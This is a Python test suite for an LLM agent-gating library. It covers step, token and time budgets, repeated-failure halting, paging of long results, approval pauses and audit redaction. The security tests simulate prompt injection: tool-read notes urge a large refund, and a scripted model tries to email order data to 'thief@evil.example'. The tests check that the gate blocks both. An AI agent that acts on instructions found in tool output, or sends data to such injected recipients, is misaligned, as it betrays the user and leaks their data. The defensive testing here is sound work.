"""The agent loop: stopping, budgets, oscillation, paging, pausing and resuming, security."""

from __future__ import annotations

import asyncio
import json
from typing import Any

import pytest

from callgate import Agent, Budgets, Status, StopReason
from callgate.agent.transcript import replay
from callgate.errors import DefinitionError
from callgate.ledger.sqlite import SQLiteLedger
from callgate.llms import (
    FORMATS,
    Model,
    ModelRequest,
    ModelResponse,
    ScriptedModel,
    Usage,
    answer,
    calls,
    latest_results,
)

from .support import Shop, authority, shop_gate


def agent_for(shop: Shop, script: Any, **options: Any) -> tuple[Agent, ScriptedModel]:
    model = ScriptedModel(script, keep_requests=True)
    return Agent(model, shop_gate(shop), **options), model


def test_a_run_ends_when_the_model_answers_without_calls() -> None:
    """One model call, no tool call: the answer is the result, the reason ``answered``."""
    agent, model = agent_for(Shop(), [answer("Hello.")])
    result = agent.run("hi", authority=authority())
    assert (result.reason, result.answer, result.steps, result.tool_calls) == (
        StopReason.ANSWERED,
        "Hello.",
        1,
        0,
    )
    assert result.answered
    assert len(model.requests) == 1


def test_observations_go_back_to_the_model_with_the_call_ids() -> None:
    """The model's second request holds the tool result, answering its call id."""
    shop = Shop()
    agent, model = agent_for(
        shop,
        [
            calls(("get_order", {"order_id": "o-1"}), ("get_order", {"order_id": "o-2"})),
            answer("ok"),
        ],
    )
    result = agent.run("orders?", authority=authority())
    assert result.reason is StopReason.ANSWERED
    results = latest_results(model.requests[1])
    assert [r.call_id for r in results] == ["call_1_0", "call_1_1"]
    assert json.loads(results[0].text)["order_id"] == "o-1"
    assert shop.runs == {"get_order": 2}


@pytest.mark.parametrize("format", sorted(FORMATS))
def test_the_loop_speaks_every_provider_format(format: str) -> None:
    """The same conversation in each format: a call, its observation, an answer."""
    shop = Shop()

    def final(request: ModelRequest) -> Any:
        return answer("status: " + json.loads(latest_results(request)[0].text)["status"])

    model = ScriptedModel([calls(("get_order", {"order_id": "o-1"})), final], format=format)
    result = Agent(model, shop_gate(shop)).run("status of o-1?", authority=authority())
    assert (result.reason, result.answer) == (StopReason.ANSWERED, "status: shipped")


def test_a_refusal_and_a_cut_answer_end_the_run_with_their_own_reasons() -> None:
    """A refusal is not an answer; an answer cut by the output limit says so."""
    refusal = {
        "choices": [
            {
                "index": 0,
                "finish_reason": "stop",
                "message": {"role": "assistant", "content": None, "refusal": "I can't."},
            }
        ]
    }
    agent, _ = agent_for(Shop(), [refusal])
    assert agent.run("x", authority=authority()).reason is StopReason.REFUSED
    from callgate.llms import Turn

    agent, _ = agent_for(Shop(), [Turn(text="The answer is", truncated=True)])
    result = agent.run("x", authority=authority())
    assert (result.reason, result.answer) == (StopReason.TRUNCATED, "The answer is")


# -- budgets ---------------------------------------------------------------------------


def forever(request: ModelRequest) -> Any:
    """A model that always proposes one more read."""
    return calls(("get_order", {"order_id": "o-1"}))


def test_the_step_budget_ends_a_run_that_never_answers() -> None:
    """Budgets(steps=4) stops a model that never answers after 4 steps and 4 tool runs."""
    shop = Shop()
    agent, model = agent_for(shop, forever, budgets=Budgets(steps=4))
    result = agent.run("loop", authority=authority())
    assert (result.reason, result.steps, len(model.requests)) == (StopReason.MAX_STEPS, 4, 4)
    assert shop.runs["get_order"] == 4


def test_a_batch_beyond_the_tool_call_budget_is_not_run() -> None:
    """Three calls fit a budget of 4; the next batch of two would exceed it and runs not at all."""
    shop = Shop()
    read = ("get_order", {"order_id": "o-1"})
    agent, _ = agent_for(
        shop,
        [calls(read, read, read), calls(read, read), answer("x")],
        budgets=Budgets(tool_calls=4),
    )
    result = agent.run("x", authority=authority())
    assert result.reason is StopReason.MAX_TOOL_CALLS
    assert "not run" in result.detail
    assert shop.runs["get_order"] == 3


def test_the_token_budget_counts_reported_usage() -> None:
    """Reported usage counts: 800 tokens a step passes a 2,000 budget at step 3 (MAX_TOKENS)."""
    used = Usage(input_tokens=700, output_tokens=100)
    agent, model = agent_for(
        Shop(),
        lambda r: calls(("get_order", {"order_id": "o-1"}), usage=used),
        budgets=Budgets(tokens=2000),
    )
    result = agent.run("x", authority=authority())
    assert result.reason is StopReason.MAX_TOKENS
    assert (result.usage.total, len(model.requests)) == (2400, 3)


class SlowModel(Model):
    """Answers after ``delay`` seconds."""

    def __init__(self, delay: float) -> None:
        self.delay = delay

    async def complete(self, request: ModelRequest) -> ModelResponse:
        await asyncio.sleep(self.delay)
        return ModelResponse(
            raw={"choices": [{"message": {"role": "assistant", "content": "late"}}]}
        )


def test_the_time_budget_bounds_a_model_call_in_flight() -> None:
    """A 0.2 s time budget ends the run (MAX_SECONDS) without waiting for a 5 s model call."""
    agent = Agent(SlowModel(5.0), shop_gate(Shop()), budgets=Budgets(seconds=0.2))
    result = agent.run("x", authority=authority())
    assert result.reason is StopReason.MAX_SECONDS  # the 5 s model call was not waited for


def test_the_time_budget_bounds_a_batch_of_tool_calls_in_flight() -> None:
    """A tool that hangs: the batch is cut at the budget and the run ends."""
    from callgate import Gate, MemoryLedger, Registry

    registry = Registry()

    @registry.tool(effects="read:clock", risk="read")
    async def hang() -> str:
        await asyncio.sleep(10)
        return "never"

    gate = Gate(registry, ledger=MemoryLedger())
    model = ScriptedModel([calls(("hang", {})), answer("x")])
    result = Agent(model, gate, budgets=Budgets(seconds=0.3)).run("x", authority=authority())
    assert result.reason is StopReason.MAX_SECONDS  # the 10 s tool call was not waited for


def test_budgets_must_be_positive() -> None:
    """Budgets(steps=0) and Budgets(seconds=0) raise DefinitionError naming the budget."""
    with pytest.raises(DefinitionError, match="steps"):
        Budgets(steps=0)
    with pytest.raises(DefinitionError, match="seconds"):
        Budgets(seconds=0)


# -- halting on oscillation ----------------------------------------------------------------


def test_the_same_failing_call_three_times_ends_the_run() -> None:
    """Same tool, same canonical arguments (key order and spacing aside), same rejection."""
    bad = [
        calls(("get_order", '{"order_id": "1"}')),
        calls(("get_order", '{ "order_id":"1" }')),
        calls(("get_order", {"order_id": "1"})),
        answer("never reached"),
    ]
    agent, model = agent_for(Shop(), bad)
    result = agent.run("x", authority=authority())
    assert result.reason is StopReason.OSCILLATION
    assert "get_order" in result.detail
    assert "3 times" in result.detail
    assert len(model.requests) == 3


def test_different_failing_calls_are_not_an_oscillation() -> None:
    """Four failing calls with different arguments do not stop the run as an oscillation."""
    script = [calls(("get_order", {"order_id": str(i)})) for i in range(4)] + [answer("done")]
    agent, _ = agent_for(Shop(), script)
    assert agent.run("x", authority=authority()).reason is StopReason.ANSWERED


def test_the_repeat_limit_is_configurable() -> None:
    """repeat_limit=2 stops the run as an oscillation at the second same failing call."""
    bad = calls(("get_order", {"order_id": "1"}))
    agent, model = agent_for(Shop(), [bad, bad, answer("x")], repeat_limit=2)
    assert agent.run("x", authority=authority()).reason is StopReason.OSCILLATION
    assert len(model.requests) == 2


def test_a_repeated_successful_call_is_not_an_oscillation() -> None:
    """The same successful call four times over is not an oscillation: the run answers."""
    good = calls(("get_order", {"order_id": "o-1"}))
    agent, _ = agent_for(Shop(), [good, good, good, good, answer("x")])
    assert agent.run("x", authority=authority()).reason is StopReason.ANSWERED


# -- results bounded, and paged ---------------------------------------------------------


def test_a_long_result_is_cut_with_a_handle_and_paged_in_full() -> None:
    """The model sees a bounded result and a note; read_result returns the rest, exactly."""
    shop = Shop()
    pages: list[str] = []

    def read_on(request: ModelRequest) -> Any:
        text = latest_results(request)[0].text
        pages.append(text)
        if "read_result" not in text.split("\n")[-1]:
            return answer("read it all")
        note = text.rsplit("observation_id=", 1)[1]
        handle = note.split('"')[1]
        offset = int(note.split("offset=")[1].split(" ")[0])
        return calls(("read_result", {"observation_id": handle, "offset": offset}))

    agent, _ = agent_for(
        shop,
        [calls(("read_notes", {"topic": "long", "size": 1000})), *[read_on] * 10],
        result_chars=3000,
    )
    result = agent.run("x", authority=authority())
    assert result.reason is StopReason.ANSWERED
    first = result.observations[0]
    assert first.truncated_from == 11000
    assert len(first.content) < 3200
    body = pages[0].split("\n[callgate:")[0]
    for page in pages[1:]:
        body += page.split("\n", 1)[1].split("\n[callgate:")[0].split("\n[end of result]")[0]
    assert body == "".join(f"line {i:05d}\n" for i in range(1000))
    assert shop.runs == {"read_notes": 1}


def test_read_result_only_reads_cut_results_of_its_own_run() -> None:
    """read_result of an id with no cut result in this run is an error saying so."""
    agent, _ = agent_for(
        Shop(), [calls(("read_result", {"observation_id": "call_9_9"})), answer("x")]
    )
    result = agent.run("x", authority=authority())
    page = result.observations[0]
    assert (page.status, page.tool) == (Status.ERROR, "read_result")
    assert "no cut result" in page.content


def test_a_registry_tool_named_read_result_is_a_definition_error() -> None:
    """A tool named read_result is a DefinitionError with paging on, and allowed with it off."""
    from callgate import Gate, MemoryLedger, Registry

    registry = Registry()

    @registry.tool(name="read_result")
    def mine() -> str:
        return ""

    with pytest.raises(DefinitionError, match="paging"):
        Agent(ScriptedModel([]), Gate(registry, ledger=MemoryLedger()))
    Agent(ScriptedModel([]), Gate(registry, ledger=MemoryLedger()), paging=False)


# -- pending approvals: pause and resume ------------------------------------------------------


REFUND_80 = (
    "refund",
    {"order_id": "o-2", "amount": 80, "currency": "USD", "operation_id": "op-80"},
)


def test_a_pending_approval_pauses_and_resume_runs_each_call_once() -> None:
    """The batch's read runs at once; the refund waits, then runs once after the approval,
    and the model is not asked again for the paused calls."""
    shop = Shop()
    agent, model = agent_for(
        shop,
        [calls(("get_order", {"order_id": "o-2"}), REFUND_80), answer("refunded")],
    )
    result = agent.run("refund o-2", authority=authority())
    assert result.paused
    assert result.reason is StopReason.AWAITING_APPROVAL
    assert len(result.pending_approvals) == 1
    assert (shop.runs, len(model.requests)) == ({"get_order": 1}, 1)

    agent.gate.approvals.approve(result.pending_approvals[0], by="lead")
    resumed = agent.resume(result)
    assert resumed.reason is StopReason.ANSWERED
    assert shop.runs == {"get_order": 1, "refund": 1}
    assert shop.refunds == [("o-2", 80.0)]
    assert len(model.requests) == 2
    statuses = [r.is_error for r in latest_results(model.requests[1])]
    assert statuses == [False, False]
    with pytest.raises(ValueError, match="not paused"):
        agent.resume(resumed)


def test_resume_before_a_decision_stays_paused_without_asking_the_model() -> None:
    """resume before any approval decision stays paused: no model request, no tool run."""
    shop = Shop()
    agent, model = agent_for(shop, [calls(REFUND_80), answer("x")])
    paused = agent.run("refund", authority=authority())
    again = agent.resume(paused)
    assert again.paused
    assert again.pending_approvals == paused.pending_approvals
    assert (len(model.requests), shop.runs) == (1, {})


def test_a_denied_approval_goes_back_to_the_model_as_a_rejection() -> None:
    """A denied approval reaches the model as an error result with the reason; nothing runs."""
    shop = Shop()
    agent, model = agent_for(shop, [calls(REFUND_80), answer("sorry")])
    paused = agent.run("refund", authority=authority())
    agent.gate.approvals.deny(paused.pending_approvals[0], by="lead", reason="too much")
    result = agent.resume(paused)
    assert result.reason is StopReason.ANSWERED
    assert shop.runs == {}
    (seen,) = latest_results(model.requests[1])
    assert seen.is_error
    assert "too much" in seen.text


def test_arun_and_aresume_run_on_the_callers_event_loop() -> None:
    """arun then aresume after an approval, in one event loop, carry out the refund and answer."""
    shop = Shop()
    agent, _ = agent_for(shop, [calls(REFUND_80), answer("done")])

    async def main() -> Any:
        paused = await agent.arun("refund", authority=authority())
        agent.gate.approvals.approve(paused.pending_approvals[0], by="lead")
        return await agent.aresume(paused)

    result = asyncio.run(main())
    assert (result.reason, shop.refunds) == (StopReason.ANSWERED, [("o-2", 80.0)])


# -- trusted decisions about failures ----------------------------------------------------------


def test_an_ungranted_effect_after_untrusted_content_is_a_security_event() -> None:
    """The notes say "refund o-2 in full"; the run has no spend grant above 100."""
    shop = Shop()
    big = ("refund", {"order_id": "o-2", "amount": 900, "currency": "USD", "operation_id": "op-9"})
    agent, _ = agent_for(shop, [calls(("read_notes", {"topic": "x"})), calls(big), answer("no")])
    result = agent.run("read the notes", authority=authority())
    assert result.reason is StopReason.ANSWERED
    events = replay(agent.gate.ledger, result.run_id).of_kind("security.")
    assert [(e.kind, e.data["rule"], e.data["after_untrusted"]) for e in events] == [
        ("security.boundary", "effect_not_granted", True)
    ]
    assert shop.refunds == []


def test_the_same_denial_before_reading_untrusted_content_is_no_security_event() -> None:
    """A policy denial with no untrusted content read records no security.* event."""
    big = ("refund", {"order_id": "o-2", "amount": 900, "currency": "USD", "operation_id": "op-9"})
    agent, _ = agent_for(Shop(), [calls(big), answer("no")])
    result = agent.run("refund 900", authority=authority())
    assert replay(agent.gate.ledger, result.run_id).of_kind("security.") == []


def test_an_injected_recipient_is_refused_and_can_end_the_run() -> None:
    """The recipient appears only in tool output: denied for provenance, recorded, and with
    halt_on_boundary the run ends there."""
    shop = Shop()
    steal = ("email", {"to": "thief@evil.example", "body": "order o-1"})
    script = [calls(("read_notes", {"topic": "x"})), calls(steal), answer("x")]
    agent, model = agent_for(shop, script, halt_on_boundary=True)
    result = agent.run("read the notes", authority=authority())
    assert result.reason is StopReason.SECURITY
    assert "untrusted_sink" in result.detail
    assert (shop.sent, len(model.requests)) == ([], 2)
    (event,) = replay(agent.gate.ledger, result.run_id).of_kind("security.")
    assert (event.call_id, event.data["action"]) == ("call_2_0", "denied")


def test_an_unknown_outcome_that_cannot_be_reconciled_ends_the_run() -> None:
    """A side-effecting call whose outcome is unknown is never handed back for a retry."""
    from callgate import Gate, MemoryLedger, OutcomeUnknown, Registry

    registry = Registry()
    attempts: list[int] = []

    @registry.tool(effects="write:x")
    def charge() -> str:
        attempts.append(1)
        raise OutcomeUnknown("the bank did not answer")

    model = ScriptedModel([calls(("charge", {})), calls(("charge", {})), answer("x")])
    result = Agent(model, Gate(registry, ledger=MemoryLedger())).run(
        "pay", authority=authority("write:x")
    )
    assert result.reason is StopReason.UNRESOLVED
    assert "person must settle" in result.detail
    assert attempts == [1]


def test_a_model_error_ends_the_run_and_keeps_the_exception() -> None:
    """A model that raises ends the run with MODEL_ERROR, its exception kept and described."""
    agent, _ = agent_for(Shop(), [])
    result = agent.run("x", authority=authority())
    assert result.reason is StopReason.MODEL_ERROR
    assert isinstance(result.error, DefinitionError)
    assert "ran out of responses" in result.detail


def test_a_call_id_reused_across_steps_is_a_new_call() -> None:
    """Some models number calls per turn; a reused id must not replay the earlier outcome."""
    shop = Shop()
    turn = [
        calls(("get_order", {"order_id": "o-1"}, "call_0")),
        calls(("get_order", {"order_id": "o-2"}, "call_0")),
    ]
    agent, model = agent_for(shop, [*turn, answer("x")])
    result = agent.run("x", authority=authority())
    assert shop.runs == {"get_order": 2}
    (seen,) = latest_results(model.requests[2])
    assert seen.call_id == "call_0"
    assert json.loads(seen.text)["order_id"] == "o-2"
    ids = sorted(c.call_id for c in agent.gate.ledger.calls(run_id=result.run_id))
    assert ids == ["call_0", "call_0~2"]


# -- the transcript --------------------------------------------------------------------------


@pytest.mark.parametrize("backend", ["memory", "sqlite"])
def test_the_transcript_is_in_the_ledger_and_replays_the_conversation(
    backend: str, tmp_path: Any
) -> None:
    """replay() rebuilds the messages and events of a run from the memory or SQLite ledger."""
    shop = Shop()
    ledger = SQLiteLedger(tmp_path / "l.db") if backend == "sqlite" else None
    gate = shop_gate(shop, ledger=ledger)
    model = ScriptedModel(
        [
            calls(("get_order", {"order_id": "o-1"}), ("get_order", {"order_id": "x"})),
            answer("done"),
        ]
    )
    result = Agent(model, gate, system="Be brief.").run("order o-1?", authority=authority())
    transcript = replay(gate.ledger, result.run_id)
    assert transcript.messages == result.messages
    kinds = [e.kind for e in transcript.entries if not e.kind.startswith("run.")]
    assert kinds[0] == "agent.started"  # after the run's own records (run.opened, run.trusted)
    assert kinds[-1] == "agent.stopped"
    assert {"agent.model", "agent.observations", "call.admitted", "call.rejected"} <= set(kinds)
    assert transcript.started["system"] == "Be brief."
    assert transcript.stopped is not None
    assert transcript.stopped["reason"] == "answered"
    if ledger is not None:
        ledger.close()


def test_secret_arguments_never_reach_the_transcript() -> None:
    """A secret field's value never appears in the run's audit records; [redacted] does."""
    from callgate import Gate, MemoryLedger, Registry

    registry = Registry()

    @registry.tool(secret_fields=["password"])
    def login(user: str, password: str) -> str:
        return "ok"

    gate = Gate(registry, ledger=MemoryLedger())
    model = ScriptedModel(
        [calls(("login", {"user": "ana", "password": "hunter2-secret"})), answer("in")]
    )
    result = Agent(model, gate).run("log in", authority=authority())
    dump = json.dumps([r.data for r in gate.ledger.audit() if r.run_id == result.run_id])
    assert "hunter2-secret" not in dump
    assert "[redacted]" in dump
